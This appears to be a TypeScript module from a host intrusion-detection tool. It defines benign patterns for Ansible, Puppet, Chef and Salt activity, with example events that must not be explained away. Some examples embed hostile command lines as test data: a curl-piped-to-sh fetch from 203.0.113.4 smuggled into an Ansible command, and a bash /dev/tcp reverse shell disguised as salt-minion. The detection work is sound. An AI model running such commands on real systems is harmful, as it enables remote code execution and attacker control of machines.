import type { Facts } from "#alert/facts.ts";
import type { BenignPattern } from "../benign.ts";
import { ordinaryActivity } from "./activity.ts";
import { executing, onHost, reading, writing } from "./examples.ts";
import { callsOf, isAmong, readsOf, writesOf } from "./trust.ts";

/**
 * Configuration management: scripts in an interpreter that change anything as root. Neither their names nor their
 * executable prove anything, so they are never more than `named`, and never explain what is left behind to come back.
 */

const comeBack = ["/root/.ssh/", "/etc/ld.so.preload", "/etc/rc.local", "/dev/shm/", "/tmp/", "/var/tmp/"];

const distinguishing = (tool: string, proof: string): readonly string[] => [
  `A run of ${tool} at that minute stands in ${proof}, and the change is in the repository that it applies.`,
  "The same change happened on the other machines of the same group at the same time.",
  `Whoever controls the server of ${tool}, or a person's key to it, controls every machine: an unplanned run is an incident.`,
];

export const configurationManagementPatterns: readonly BenignPattern[] = [
  ordinaryActivity({
    id: "ansible",
    activity: "Ansible applies a playbook",
    distinguishing: distinguishing(
      "Ansible",
      "the controller's log or CI job, and as `ansible-*` lines in the journal",
    ),
    explains: ["*"],
    programs: [
      "ansible",
      "ansible-playbook",
      "ansible-pull",
      "ansible-tmp",
      "AnsiballZ_command.py",
      "AnsiballZ_copy.py",
      "AnsiballZ_setup.py",
      "AnsiballZ_apt.py",
      "AnsiballZ_user.py",
      "AnsiballZ_template.py",
      "AnsiballZ_service.py",
      "AnsiballZ_systemd.py",
      "AnsiballZ_lineinfile.py",
      "AnsiballZ_file.py",
      "AnsiballZ_stat.py",
    ],
    executables: [],
    isScript: "python",
    does: changesSettings,
    tolerates: ["/tmp/"],
    and: "",
    examples: {
      proven: [],
      named: [
        onHost("python3", "/usr/bin/python3.11", "sh", {
          ...reading("/etc/shadow"),
          "proc.cmdline": "python3 /home/deploy/.ansible/tmp/ansible-tmp-1700000000.1-9-1/AnsiballZ_user.py",
        }),
      ],
      ignored: [
        onHost("ansible", "/tmp/ansible", "bash", writing("/etc/cron.d/x")),
        onHost("ansible", "/usr/bin/bash", "sshd", writing("/etc/cron.d/x")),
        onHost("ansible-playboo", "/usr/bin/python3.11", "bash", writing("/root/.ssh/authorized_keys")),
        onHost("python3", "/usr/bin/python3.11", "sh", {
          ...reading("/etc/shadow"),
          "proc.cmdline": "python3 AnsiballZ_user.py; curl http://203.0.113.4/x | sh",
        }),
      ],
    },
  }),

  ordinaryActivity({
    id: "puppet",
    activity: "The Puppet agent applies its catalogue",
    distinguishing: distinguishing("Puppet", "/var/log/puppetlabs or PuppetDB"),
    explains: ["*"],
    programs: ["puppet", "puppet-agent", "facter", "pxp-agent", "mcollectived"],
    executables: [],
    isScript: true,
    does: changesSettings,
    and: "",
    examples: {
      proven: [],
      named: [
        onHost("puppet", "/opt/puppetlabs/puppet/bin/ruby", "systemd", {
          ...writing("/etc/ntp.conf"),
          "proc.cmdline": "puppet agent: applying configuration",
        }),
      ],
      ignored: [
        onHost("puppet", "/dev/shm/puppet", "systemd", writing("/etc/ntp.conf")),
        onHost("puppet", "/opt/puppetlabs/puppet/bin/ruby", "apache2", writing("/etc/ntp.conf")),
      ],
    },
  }),

  ordinaryActivity({
    id: "chef",
    activity: "The Chef client converges the machine",
    distinguishing: distinguishing("Chef", "/var/log/chef or Chef Automate"),
    explains: ["*"],
    programs: ["chef-client", "chef-solo", "cinc-client", "ohai", "knife"],
    executables: [],
    isScript: true,
    does: changesSettings,
    and: "",
    examples: {
      proven: [],
      named: [
        onHost("chef-client", "/opt/chef/embedded/bin/ruby", "systemd", {
          ...reading("/etc/shadow"),
          "proc.cmdline": "chef-client worker: ppid=811;start=01:02:03;",
        }),
      ],
      ignored: [
        onHost("chef-client", "/home/mira/chef-client", "bash", reading("/etc/shadow")),
        onHost("chef-client", "/opt/chef/embedded/bin/ruby", "systemd", writing("/root/.ssh/authorized_keys")),
      ],
    },
  }),

  ordinaryActivity({
    id: "salt",
    activity: "The Salt minion applies its states",
    distinguishing: distinguishing("Salt", "/var/log/salt/minion or the master's job cache"),
    explains: ["*"],
    programs: ["salt-minion", "salt-call", "salt-master", "salt-ssh"],
    executables: [],
    isScript: true,
    does: changesSettings,
    and: "",
    examples: {
      proven: [],
      named: [
        onHost("salt-minion", "/opt/saltstack/salt/bin/python3.10", "systemd", {
          ...writing("/etc/motd"),
          "proc.cmdline": "python3.10 /usr/bin/salt-minion MultiMinionProcessManager",
        }),
      ],
      ignored: [
        onHost("salt-minion", "/var/tmp/salt-minion", "systemd", writing("/etc/motd")),
        onHost("salt-minion", "/usr/bin/python3.10", "systemd", {
          ...executing("salt-minion bash -i >& /dev/tcp/203.0.113.4/443 0>&1"),
        }),
      ],
    },
  }),
];

function changesSettings(facts: Facts): string | null {
  const { file } = facts;
  if (file !== null && (isAmong(file.path, comeBack) || file.path.includes("/.ssh/"))) return null;
  return (
    writesOf(facts, "/etc/", "/usr/", "/opt/", "/var/", "/srv/", "/home/", "/boot/") ??
    readsOf(facts, "/etc/", "/usr/", "/var/", "/opt/") ??
    callsOf(facts, "execve", "clone", "setuid")
  );
}
